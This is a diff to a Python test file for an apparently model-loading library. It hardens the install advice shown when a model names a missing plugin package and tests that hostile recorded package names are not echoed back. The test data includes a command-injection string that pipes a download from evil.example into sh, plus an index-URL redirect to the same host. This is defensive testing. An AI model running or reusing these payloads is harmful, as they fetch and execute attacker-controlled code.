@@ -221,10 +221,15 @@ def test_a_model_saved_with_a_plugin_that_is_absent_says_what_to_install(site: P
     give_last_module(pooled, "acme_heads.Head", distribution="acme-heads", version="1.2")
     with pytest.raises(UnknownTypeError, match=r"acme_heads\.Head") as caught:
         CrossEncoder(pooled)
-    assert caught.value.next_step == "pip install acme-heads"
+    assert caught.value.claimed == "acme-heads"
+    assert caught.value.next_step.startswith("the model's files claim that the package 'acme-heads' provides it")
+    assert "Look at https://pypi.org/project/acme-heads/ first" in caught.value.next_step
+    assert caught.value.next_step.endswith("Only if you trust it: pip install acme-heads")
 
 
-@pytest.mark.parametrize("recorded", ["acme; curl evil.example | sh", "--index-url=http://evil.example acme", "a\nb"])
+@pytest.mark.parametrize(
+    "recorded", ["acme; curl evil.example | sh", "--index-url=http://evil.example acme", "a\nb", "evil" * 100]
+)
 def test_what_a_model_records_is_only_repeated_if_it_names_a_distribution(
     site: Path, model: Path, recorded: str
 ) -> None:
